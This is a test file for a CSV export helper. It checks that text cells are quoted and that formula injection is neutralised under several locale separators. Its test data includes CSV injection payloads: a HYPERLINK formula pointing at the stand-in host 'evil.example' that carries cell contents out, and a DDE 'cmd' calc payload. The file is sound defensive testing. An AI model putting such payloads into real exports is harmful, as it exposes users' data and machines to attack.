// The cells of a CSV export (src/server/http/csv.ts) as a spreadsheet of any locale reads them: Excel
// splits on `;` in Turkish and German, on `,` elsewhere, and may split inside quotes it does not honour.
import { describe, expect, it } from 'vitest';
import { CSV_BOM, csvCell, csvText } from '@server/http/csv';
import { parseCsv } from '../support/csv';

/** The cells a reader that splits on `separator` and ignores quotes makes of a written cell. */
const splitBy = (cell: string, separator: string) => cell.replace(/^"|"$/g, '').replace(/""/g, '"').split(separator);
/** Would a spreadsheet run this cell as a formula? (after spaces or quotes, or a tab or CR first) */
const runs = (cell: string) => /^[\s"]*[=+\-@]|^[\t\r]/.test(cell);

describe('a CSV cell', () => {
  it('quotes every text cell, so that a `;` inside it stays inside it', () => {
    expect(csvCell('Nice trip')).toBe('"Nice trip"');
    expect(csvCell('Nice trip;=HYPERLINK("http://evil.example","x");x')).toBe(`"Nice trip;'=HYPERLINK(""http://evil.example"",""x"");x"`);
    expect(csvCell('')).toBe('""');
  });

  it('neutralises every piece that a reader splitting on `,`, `;`, tab or a line break would run', () => {
    const hostile = [
      'Nice trip;=HYPERLINK("http://evil.example/?x="&A1;"Click");x',
      'a,+cmd|\' /C calc\'!A0',
      'x;  -2+3',
      'x;"=1+1"',
      'x\t@SUM(A1)',
      'first line\r\n=1+1',
      'first line\n-1',
      '=plain',
    ];
    for (const value of hostile) {
      const cell = csvCell(value);
      for (const separator of [',', ';', '\t', '\n']) {
        for (const piece of splitBy(cell, separator)) expect(runs(piece), `${JSON.stringify(value)} split on ${JSON.stringify(separator)}: ${JSON.stringify(piece)}`).toBe(false);
      }
    }
    // the text itself is kept, each dangerous piece behind a single quote
    expect(csvCell('x;  -2+3')).toBe(`"x;'  -2+3"`);
    expect(csvCell('first line\n-1')).toBe(`"first line\n'-1"`);
  });

  it('keeps numbers numbers (unquoted, negative ones too) and text that looks like a number text', () => {
    expect(csvCell(-5)).toBe('-5');
    expect(csvCell(41.0082)).toBe('41.0082');
    expect(csvCell(null)).toBe('');
    expect(csvCell('+20')).toBe(`"'+20"`);
    expect(csvCell('-2')).toBe(`"'-2"`);
    expect(csvCell('Kadıköy - Moda')).toBe('"Kadıköy - Moda"');
  });

  it('writes RFC 4180 with a byte order mark: the strict reader gets the values back', async () => {
    async function* batches() {
      yield [{ id: 1, title: 'Nice trip;=HYPERLINK("x");x', note: 'Çay, "simit"\r\nve deniz', n: -3 }];
    }
    let text = '';
    for await (const piece of csvText(batches())) text += piece;
    expect(text.startsWith(CSV_BOM)).toBe(true);
    expect(text.slice(1)).toBe(`"id","title","note","n"\r\n1,"Nice trip;'=HYPERLINK(""x"");x","Çay, ""simit""\r\nve deniz",-3\r\n`);
    expect(parseCsv(text.slice(1))).toEqual([
      ['id', 'title', 'note', 'n'],
      ['1', `Nice trip;'=HYPERLINK("x");x`, 'Çay, "simit"\r\nve deniz', '-3'],
    ]);
  });
});
